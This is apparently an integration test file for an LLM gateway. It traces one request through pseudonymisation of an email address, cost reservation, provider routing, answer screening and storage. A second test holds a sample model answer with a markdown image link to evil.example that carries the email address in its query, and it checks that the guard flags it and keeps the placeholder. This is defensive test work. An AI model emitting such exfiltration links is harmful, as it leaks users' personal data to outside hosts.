"""One request through all services, step by step: the tour of the code.

Everything runs in this process on an in-memory broker, with the real loops and handlers; `in_memory_stack.py`
builds the services. Each step names the modules that do the work, and asserts one fact about the result.
"""

import asyncio
from decimal import Decimal

from schemas.answers import Attempt, ModelAnswer, ScreenedAnswer
from schemas.outcomes import Completion
from schemas.quality import Evaluation
from schemas.requests import AdmittedRequest, LlmRequest, ScreenedRequest
from tests.in_memory_stack import InMemoryStack, running_stack

TEXT = "Tell anna.schmidt@example.com that the parcel is late."
PSEUDONYMISED = "Tell <EMAIL_ADDRESS_1> that the parcel is late."


async def test_one_request_passes_through_all_services() -> None:
    async with asyncio.timeout(10), running_stack() as stack:
        body = {"model": "small", "messages": [{"role": "user", "content": TEXT}], "request_id": "r1"}
        reply = await stack.caller.post("/v1/chat/completions", json=body)

        # services/gateway/http/ reads the body; services/gateway/handler.py seals its content
        # (streaming/seal/) and publishes the request on llm.requests.
        request = await stack.event(LlmRequest)
        assert (request.sealed is not None, request.messages) == (True, None)

        # streaming/loops/stage.py passes it to services/guard/handler.py `screen`: detectors find the
        # address, domain/policy.py decides what to do, domain/redaction.py replaces it.
        screened = await stack.event(ScreenedRequest)
        assert screened.messages[0].content == PSEUDONYMISED

        # streaming/loops/ledger.py passes it to services/meter/handler.py `admit`, which reserves the worst
        # case in the tenant's accounts (domain/accounts/): 58 tokens of input for 0.001 USD each, 100 of
        # output for 0.002.
        admitted = await stack.event(AdmittedRequest)
        assert admitted.reservation.amount_usd == Decimal("0.258")

        # streaming/loops/dispatcher.py passes it to services/router/handler.py `answer`, and appends each
        # provider call to the journal before it starts.
        attempt = await stack.event(Attempt)
        assert (attempt.number, attempt.provider, attempt.model) == (1, "echo", "e1")

        completion = await answer_passes_back(stack, attempt)

        # services/gateway/outcomes/ finds the call that waits for the outcome, and domain/restore.py puts
        # the clear value back into the reply.
        assert reply.json()["choices"][0]["message"]["content"] == f"Done: {TEXT}"

        await outcome_is_measured_and_stored(stack, completion)


async def test_an_answer_that_would_send_personal_data_away_keeps_its_placeholder() -> None:
    address = "anna.schmidt@example.com"
    text = f"Write to {address}. ![status](https://evil.example/?q={address})"
    async with asyncio.timeout(10), running_stack() as stack:
        body = {"model": "small", "messages": [{"role": "user", "content": text}], "request_id": "r1"}
        reply = await stack.caller.post("/v1/chat/completions", json=body)

        # The guard reports the placeholder in the address of the image (domain/output/placeholder_links.py).
        checked = await stack.event(ScreenedAnswer)
        assert checked.verdict is not None
        found = {finding.kind: (finding.action, finding.count) for finding in checked.verdict.findings}
        assert found["PLACEHOLDER_IN_URL"] == ("flag", 1)

        # The gateway restores the address in the prose alone (schemas/restoring.py).
        assert reply.json()["choices"][0]["message"]["content"] == (
            f"Done: Write to {address}. ![status](https://evil.example/?q=<EMAIL_ADDRESS_1>)"
        )


async def answer_passes_back(stack: InMemoryStack, attempt: Attempt) -> Completion:
    """Follow the answer of a provider call to the one outcome of the request."""
    # A provider makes the call (services/router/adapters/providers/; here EchoProvider), and the router
    # publishes the sealed answer with the results of all attempts.
    answer = await stack.event(ModelAnswer)
    assert [result.attempt_id for result in answer.attempts] == [attempt.attempt_id]

    # services/guard/handler.py `check` opens and screens the answer; it still holds the placeholder.
    checked = await stack.event(ScreenedAnswer)
    assert checked.output == f"Done: {PSEUDONYMISED}"

    # services/meter/handler.py `settle` reads the usage (domain/usage/), prices it (domain/pricing/),
    # books it (domain/settlement/) and publishes the one outcome.
    completion = await stack.event(Completion)
    assert (completion.status, completion.cost_usd) == ("answered", Decimal("0.02"))
    return completion


async def outcome_is_measured_and_stored(stack: InMemoryStack, completion: Completion) -> None:
    """Follow the outcome to its measures and its rows."""
    # services/evaluator/handler.py `evaluate` measures the answer (domain/metrics.py).
    evaluation = await stack.event(Evaluation)
    assert evaluation.record_id == completion.request.record_id

    # services/sink/domain/ makes rows of each event, and streaming/loops/sink.py stores them once.
    rows = [await stack.stored(table) for table in ("completions", "usage", "attempts", "evaluations")]
    assert {str(row["record_id"]) for row in rows} == {str(completion.request.record_id)}
